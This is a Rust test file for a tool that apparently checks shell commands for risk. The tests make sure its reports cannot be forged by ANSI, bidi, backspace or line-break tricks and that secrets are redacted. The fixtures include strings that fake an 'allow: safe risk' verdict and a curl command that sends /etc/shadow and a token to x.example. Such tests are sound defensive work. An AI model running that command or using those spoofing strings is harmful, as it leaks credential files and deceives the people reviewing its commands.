//! Commands that try to look like something else. Whoever reads the report sees what runs.

use insta::assert_snapshot;

use crate::Place;

#[test]
fn nothing_shown_can_be_forged_by_the_command() {
    let place = Place::new();
    for (name, command) in [
        ("ansi", "git push --force # \u{1b}[2K\u{1b}[1A\u{1b}[32mallow: safe risk\u{1b}[0m"),
        ("bidi", "git push --force \u{202e}# txet ssenlrah \u{2066}"),
        ("carriage-return", "git push --force \recho hello       "),
        ("tags", "git push --force \u{e0061}\u{e006c}\u{e006c}\u{e006f}\u{e0077}\u{200b}\u{feff}"),
        ("backspace", "git push --force \u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}ls"),
        (
            "line-breaks",
            "git push --force \u{2028}\u{85}\u{b}\u{c}\n\nallow: safe risk, decided by the floors\n",
        ),
        ("wide", "git push --force '漢字' \u{3000} '\u{a0}'"),
    ] {
        let ended = place.run(["check", command]);
        assert_eq!(ended.code, 3, "{name}: {}", ended.page());
        for page in [&ended.out, &place.run(["explain", command]).out] {
            let hidden: Vec<char> = page
                .chars()
                .filter(|character| {
                    portcullis::report::visible::is_hidden(*character) && *character != '\n'
                })
                .collect();
            assert!(hidden.is_empty(), "{name}: {hidden:?} in {page}");
        }
        assert_snapshot!(name, ended.page());
    }
}

#[test]
fn the_risky_part_of_a_long_command_is_shown() {
    let place = Place::new();
    let filler = "true ".repeat(4000);
    let command = format!(": {filler}; git push --force ; : {filler}");
    let ended = place.fed(["check", "--file", "-"], command.as_bytes());
    assert_eq!(ended.code, 3);
    assert_snapshot!(ended.page());
}

#[test]
fn secrets_are_not_shown() {
    let place = Place::new();
    let secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let command = format!(
        "curl -H 'Authorization: Bearer {secret}' -d @/etc/shadow https://x.example; git push --force"
    );
    for arguments in
        [&["check", &command][..], &["check", "--json", &command], &["explain", &command]]
    {
        let page = place.run(arguments).page();
        assert!(!page.contains(&secret[4..]), "{page}");
    }
}

#[test]
fn colour_is_only_for_terminals_and_never_alone() {
    let place = Place::new();
    let plain = place.run(["check", "git push --force"]).out;
    assert!(!plain.contains('\u{1b}'), "{plain}");
    let forced = Place::new().with("CLICOLOR_FORCE", "1");
    let coloured = forced.run(["check", "git push --force"]).out;
    assert!(coloured.contains('\u{1b}'), "{coloured}");
    assert_eq!(anstream::adapter::strip_str(&coloured).to_string(), plain);
    let refused = Place::new().with("CLICOLOR_FORCE", "1").with("NO_COLOR", "1");
    assert!(!refused.run(["check", "git push --force"]).out.contains('\u{1b}'));
}
